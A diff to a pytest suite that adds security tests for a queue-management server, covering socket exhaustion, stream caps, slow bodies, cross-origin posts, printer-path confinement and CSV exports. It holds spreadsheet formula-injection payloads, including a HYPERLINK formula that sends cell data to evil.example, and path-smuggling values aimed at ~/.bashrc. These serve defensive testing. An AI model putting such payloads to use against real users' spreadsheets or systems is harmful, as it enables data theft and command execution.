@@ -8,12 +8,20 @@
   database file or an export of the events.
 * Each manager/admin action done through the server is in the audit trail with who did it
   (staff number) and where (station name).
+* Strangers on the hall's Wi-Fi: idle sockets, a burst of live streams, odd forms, slow
+  bodies, ratings from elsewhere or another day, board-token guesses and staff-number
+  probing get no more than their share; admins cannot point a station's printer at a file
+  of their choosing; exports for Excel and the analysts' copy carry no formula, no secret.
 """
 
 from __future__ import annotations
 
 import contextlib
+import csv
+import io
 import json
+import os
+import resource
 import socket
 import sqlite3
 import subprocess
@@ -512,11 +520,330 @@ def test_a_remote_admin_cannot_make_the_server_write_any_file(srv: Server, tmp_p
         r = http.post("/api/v1/printers", json=body,
                       headers={"Idempotency-Key": uuid.uuid4().hex})  # fmt: skip
         assert r.status_code == 200, r.text
-        # a station's own printer is driven by the station, never written by the server
-        r = http.post("/api/v1/printers", json={"name": "desk-file", "connection": "file",
-                      "address": str(target), "station": "desk-1"},
+        # a station's own printer is confined alike: no station appends slips to ~/.bashrc
+        for address in (str(target), os.path.expanduser("~/.bashrc"), sneaky):
+            r = http.post("/api/v1/printers", json={"name": "desk-file", "connection": "file",
+                          "address": address, "station": "desk-1"},
+                          headers={"Idempotency-Key": uuid.uuid4().hex})  # fmt: skip
+            assert r.status_code == 403 and "/dev/usb/lp*" in r.json()["message"], r.text
+        r = http.post("/api/v1/printers", json={"name": "desk-lp", "connection": "file",
+                      "address": "/dev/usb/lp1", "station": "desk-1"},
                       headers={"Idempotency-Key": uuid.uuid4().hex})  # fmt: skip
         assert r.status_code == 200, r.text
-        for name in ("usb-lp", "desk-file"):
+        # a NUL byte in an address is bad input, said plainly, for either kind of printer
+        for station in (None, "desk-1"):
+            body = {"name": "nul", "connection": "file", "address": "/dev/usb/lp0\x00/etc/x",
+                    "station": station}  # fmt: skip
+            r = http.post("/api/v1/printers", json=body,
+                          headers={"Idempotency-Key": uuid.uuid4().hex})  # fmt: skip
+            assert r.status_code == 422 and "printer address" in r.json()["message"], r.text
+        for name in ("usb-lp", "desk-lp"):
             http.delete(f"/api/v1/printers/{name}", headers={"Idempotency-Key": uuid.uuid4().hex})
     assert not target.exists()
+
+
+# -- strangers on the hall's Wi-Fi -----------------------------------------------------------
+IDLE_SOCKETS = 2000
+STREAMS = 20
+"""The tight server's cap on the citizens' live streams."""
+
+
+def key() -> dict[str, str]:
+    return {"Idempotency-Key": uuid.uuid4().hex}
+
+
+def test_two_thousand_idle_sockets_lock_out_neither_health_nor_a_station(tmp_path: Path) -> None:
+    """Sockets opened and never used, all from the stations' own address (loopback), give
+    way to the clients that speak: /health and a station's call answer within 2 s."""
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    if soft < IDLE_SOCKETS + 500:
+        resource.setrlimit(resource.RLIMIT_NOFILE, (IDLE_SOCKETS + 500, hard))
+    db = tmp_path / "hall.db"
+    build_hall(db, clerks=1, counters=1)
+    srv = Server(db, free_port())
+    srv.tokens["admin-pc"] = register(db, "admin-pc", True)
+    srv.start()
+    idle: list[socket.socket] = []
+    try:
+        for _ in range(IDLE_SOCKETS):
+            idle.append(socket.create_connection(("127.0.0.1", srv.port), timeout=10))
+        quick = httpx.Timeout(2.0)
+        assert httpx.get(srv.url + "/health", timeout=quick).status_code == 200
+        bearer = {"Authorization": f"Bearer {srv.tokens['admin-pc']}"}
+        with httpx.Client(base_url=srv.url, timeout=quick, headers=bearer) as pc:
+            assert pc.get("/api/v1/hall").status_code == 200
+            issued = pc.post("/api/v1/tickets", json={"service": "ID"}, headers=key())
+            assert issued.status_code == 200, issued.text
+    finally:
+        for s in idle:
+            s.close()
+        srv.stop()
+
+
+@pytest.fixture(scope="module")
+def tight(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
+    """A server with small limits: ``STREAMS`` live streams, 2 s for a request to arrive;
+    no request allowance in the way (the bursts below all come from one address)."""
+    db = tmp_path_factory.mktemp("tight") / "hall.db"
+    build_hall(db, clerks=2, counters=2)
+    srv = Server(db, free_port(), extra=["--public-streams", str(STREAMS),
+                                         "--request-timeout", "2"])  # fmt: skip
+    hall = LocalHall(db)
+    try:
+        hall.set_setting(ADMIN, "public_url", srv.url)
+        hall.set_setting(ADMIN, "public_rate_per_min", 100_000)
+    finally:
+        hall.close()
+    for name, admin in (("admin-pc", True), ("desk-1", False)):
+        srv.tokens[name] = register(db, name, admin)
+    srv.start()
+    yield srv
+    srv.stop()
+
+
+def test_a_burst_of_live_streams_gets_no_more_than_the_cap(tight: Server) -> None:
+    burst = 3 * STREAMS
+    statuses: list[int] = []
+    start = threading.Barrier(burst)
+    release = threading.Event()
+
+    def one() -> None:
+        with httpx.Client(timeout=30) as web:
+            start.wait()
+            with web.stream("GET", tight.url + "/board/events") as answer:
+                statuses.append(answer.status_code)
+                release.wait(30)  # a stream that got in stays open until every one answered
+
+    threads = [threading.Thread(target=one) for _ in range(burst)]
+    for t in threads:
+        t.start()
+    deadline = time.monotonic() + 30
+    while len(statuses) < burst and time.monotonic() < deadline:
+        time.sleep(0.05)
+    release.set()
+    for t in threads:
+        t.join(30)
+    assert sorted(statuses) == [200] * STREAMS + [503] * (burst - STREAMS)
+    # the places come back when the streams end
+    for _ in range(100):
+        with httpx.stream("GET", tight.url + "/board/events", timeout=10) as again:
+            if again.status_code == 200:
+                break
+        time.sleep(0.1)
+    assert again.status_code == 200
+
+
+def test_a_body_that_trickles_in_is_answered_408(tight: Server) -> None:
+    """The deadline covers the whole body, not each piece of it."""
+    api = (b'{"service": "ID", "green_note": "' + b"x" * 60 + b'"}',
+           f"Authorization: Bearer {tight.tokens['admin-pc']}\r\n"
+           f"Idempotency-Key: {uuid.uuid4().hex}\r\nContent-Type: application/json")  # fmt: skip
+    rating = (
+        b"rating=5&comment=" + b"x" * 60,
+        f"Origin: {tight.url}\r\nContent-Type: application/x-www-form-urlencoded",
+    )
+    for path, (body, headers) in (("/api/v1/tickets", api), (f"/f/{'z' * 22}", rating)):
+        head = (f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{tight.port}\r\n{headers}\r\n"
+                f"Content-Length: {len(body)}\r\n\r\n").encode()  # fmt: skip
+        with socket.create_connection(("127.0.0.1", tight.port), timeout=10) as sock:
+            sock.sendall(head)
+            sock.settimeout(0.25)
+            answer, sent = b"", 0
+            while sent < len(body) - 1 and not answer:  # a byte every 0.25 s, never the last
+                try:
+                    sock.sendall(body[sent : sent + 1])
+                    sent += 1
+                    answer = sock.recv(4096)
+                except TimeoutError:
+                    continue
+                except OSError:
+                    break
+            sock.settimeout(5)
+            with contextlib.suppress(OSError):
+                answer = answer or sock.recv(4096)
+        assert answer.startswith(b"HTTP/1.1 408"), (path, sent, answer[:300])
+        assert b"did not arrive in time" in answer
+
+
+def finished_ticket(server: Server) -> str:
+    """The public code of a ticket just finished at counter 1 (through the server)."""
+    from console.remote import RemoteHall
+    from tests.server.conftest import public_code
+
+    desk = RemoteHall(server.url, server.tokens["desk-1"])
+    try:
+        me = desk.login("1001", PIN, "desk-1")
+        desk.open_counter(me, 1)
+        number = desk.issue(me, "ID").ticket.number
+        while desk.call_next(me, 1).number != number:
+            desk.finish(me, 1)
+        desk.finish(me, 1)
+    finally:
+        desk.close()
+    return public_code(server.db, number)
+
+
+SECURE = {"x-content-type-options": "nosniff", "x-frame-options": "DENY"}
+
+
+def test_a_rating_comes_only_from_the_halls_own_page_with_its_two_fields(tight: Server) -> None:
+    code = finished_ticket(tight)
+    url = f"{tight.url}/f/{code}"
+    many = {"rating": "5", "comment": "ok", "a": "1", "b": "2", "c": "3"}
+    r = httpx.post(url, data=many, headers={"Origin": tight.url})
+    assert r.status_code == 422, r.text  # was a 500
+    assert SECURE.items() <= r.headers.items() and "content-security-policy" in r.headers
+    for origin in ({"Origin": "http://evil.example"}, {"Origin": "null"}, {}):
+        r = httpx.post(url, data={"rating": "1", "comment": "cross-site"}, headers=origin)
+        assert r.status_code == 403, (origin, r.status_code)
+    r = httpx.post(url, data={"rating": "4"}, headers={"Origin": tight.url, **EN})
+    assert r.status_code == 200 and "Thank you" in r.text
+
+
+EN = {"Accept-Language": "en"}
+
+
+def test_an_internal_error_still_carries_the_security_headers(tight: Server) -> None:
+    from fastapi.testclient import TestClient
+
+    from console.server.app import create_app
+
+    app = create_app(tight.db)
+
+    @app.get("/t/broken/page")
+    async def broken() -> None:
+        raise RuntimeError("a fault of ours")
+
+    with TestClient(app, raise_server_exceptions=False) as http:
+        r = http.get("/t/broken/page")
+    assert r.status_code == 500 and r.json()["error"] == "internal"
+    assert SECURE.items() <= r.headers.items() and "content-security-policy" in r.headers
+
+
+def test_a_receipt_rates_only_on_its_own_day(small_hall: LocalHall, clock) -> None:
+    from console.domain import Actor
+    from console.domain.errors import Refused
+
+    me = Actor(staff_no="1001", role="clerk", station="desk-1")
+    small_hall.open_counter(me, 1)
+    numbers = [small_hall.issue(me, "ID").ticket.number for _ in range(2)]
+    for _ in numbers:
+        small_hall.call_next(me, 1)
+        small_hall.finish(me, 1)
+    codes = [small_hall.engine.conn.execute("SELECT public_code FROM tickets WHERE number = ?",
+                                            (n,)).fetchone()[0] for n in numbers]  # fmt: skip
+    assert small_hall.engine.rate_by_code(codes[0], 5).rating == 5  # the same day: rated
+    clock.t += 24 * 3600
+    with pytest.raises(Refused) as refused:
+        small_hall.engine.rate_by_code(codes[1], 1, "found the receipt in a drawer")
+    assert refused.value.reason == "rating.expired"
+    rating = small_hall.engine.conn.execute(
+        "SELECT rating FROM tickets WHERE public_code = ?", (codes[1],)
+    ).fetchone()[0]
+    assert rating is None
+
+
+def test_an_unknown_staff_number_costs_a_pin_check_like_a_wrong_pin(
+    small_hall: LocalHall, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Refusals take as long whether the staff number exists or not: each is one slow
+    hash check, so timing does not list the staff numbers."""
+    from argon2 import PasswordHasher
+
+    from console.domain.errors import AuthError
+    from console.engine import pins
+
+    checks: list[str] = []
+
+    class Counting(PasswordHasher):
+        def verify(self, hash: str | bytes, password: str | bytes) -> bool:
+            checks.append(str(password))
+            return super().verify(hash, password)
+
+    monkeypatch.setattr(pins, "_hasher", Counting(time_cost=1, memory_cost=64, parallelism=1))
+    messages = []
+    for staff_no in ("4040", "1001"):
+        with pytest.raises(AuthError) as refused:
+            small_hall.login(staff_no, "9999", "desk-1")
+        messages.append(refused.value.message)
+    assert checks == ["9999", "9999"]
+    assert messages[0] == messages[1]
+
+
+def test_csv_for_excel_turns_no_free_text_into_a_formula(small_hall: LocalHall,
+                                                         tmp_path: Path) -> None:  # fmt: skip
+    from console.domain import Actor
+
+    small_hall.add_clerk(ADMIN, staff_no="1004", name="-2+3", pin="1234")
+    me = Actor(staff_no="1004", role="clerk", station="desk-1")
+    small_hall.open_counter(me, 1)
+    small_hall.issue(me, "ID", green_reason="elderly", green_note="@SUM(1+1)*cmd|' /C calc'!A0")
+    small_hall.call_next(me, 1)
+    small_hall.finish(me, 1, note='=HYPERLINK("http://evil.example/?x="&A1,"click")')
+    code = small_hall.engine.conn.execute("SELECT public_code FROM tickets").fetchone()[0]
+    small_hall.engine.rate_by_code(code, 1, "+1 cmd|' /C calc'!A0")
+    files = {}
+    for excel in (True, False):
+        out = tmp_path / f"tickets-{excel}.csv"
+        done = subprocess.run(
+            [sys.executable, "-c", "from console.cli.main import run; run()", "export", "--db",
+             str(small_hall.engine.path), "--what", "tickets", "--from", "2000-01-01", "--to",
+             "2100-01-01", "--format", "csv", "--personal", "--quiet", "--out", str(out),
+             *(["--excel"] if excel else [])],
+            cwd=Path(__file__).resolve().parents[2], capture_output=True, text=True,
+        )  # fmt: skip
+        assert done.returncode == 0, done.stderr
+        files[excel] = next(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
+    for_excel, exact = files[True], files[False]
+    for column in ("note", "green_note", "feedback", "clerk_name"):
+        assert for_excel[column] == "'" + exact[column], column
+        assert exact[column][0] in "=+-@", column  # without --excel the text is as typed
+    leads = ("=", "+", "-", "@", "\t", "\r")
+    assert not [c for c, v in for_excel.items() if v.startswith(leads)]
+
+
+def test_the_analysts_copy_holds_no_secret_whatever_its_name(srv: Server, tmp_path: Path) -> None:
+    conn = sqlite3.connect(srv.db)
+    secrets = [r[0] for q in ("SELECT pin_hash FROM clerks", "SELECT token_hash FROM stations",
+                              "SELECT token_hash FROM server_sessions",
+                              "SELECT public_code FROM tickets WHERE public_code IS NOT NULL")
+               for r in conn.execute(q)]  # fmt: skip
+    tickets = conn.execute("SELECT count(*) FROM tickets").fetchone()[0]
+    conn.close()
+    assert len(secrets) > 10 and tickets > 0
+    out = tmp_path / "whatever-name.db"
+    done = subprocess.run(
+        [sys.executable, "-c", "from console.cli.main import run; run()", "export", "--db",
+         str(srv.db), "--analysis", "--out", str(out), "--json"],
+        cwd=Path(__file__).resolve().parents[2], capture_output=True, text=True,
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    assert json.loads(done.stdout)["tickets"] == tickets
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["whatever-name.db"]  # one file
+    raw = out.read_bytes().decode("latin-1")
+    assert not [s for s in secrets if s in raw]
+    copy = sqlite3.connect(out)
+    try:
+        assert copy.execute("SELECT count(*) FROM tickets").fetchone()[0] == tickets
+        assert copy.execute("SELECT count(*) FROM clerks WHERE pin_hash != ''").fetchone() == (0,)
+        assert copy.execute("SELECT count(*) FROM server_sessions").fetchone() == (0,)
+    finally:
+        copy.close()
+
+
+def test_a_board_token_is_long_and_guessing_it_is_slow(srv: Server) -> None:
+    """Last here: the guesses spend this address's allowance of the public pages."""
+    token = "Kq3vX9-tB7mZp2Lw8sY4nA"
+    with client(srv, "admin-pc") as http:
+        for weak in ("x", "tv-secret-1", "a" * 30):
+            r = http.put("/api/v1/settings/board_token", json={"value": weak}, headers=key())
+            assert r.status_code == 422 and "at least 16" in r.json()["message"], r.text
+        r = http.put("/api/v1/settings/board_token", json={"value": token}, headers=key())
+        assert r.status_code == 200, r.text
+        try:
+            assert httpx.get(f"{srv.url}/board/state?token={token}").status_code == 200
+            guesses = [httpx.get(f"{srv.url}/board/state?token=guess{i:017d}").status_code
+                       for i in range(20)]  # fmt: skip
+            assert guesses[0] == 403 and 429 in guesses[:13], guesses
+        finally:
+            http.put("/api/v1/settings/board_token", json={"value": ""}, headers=key())
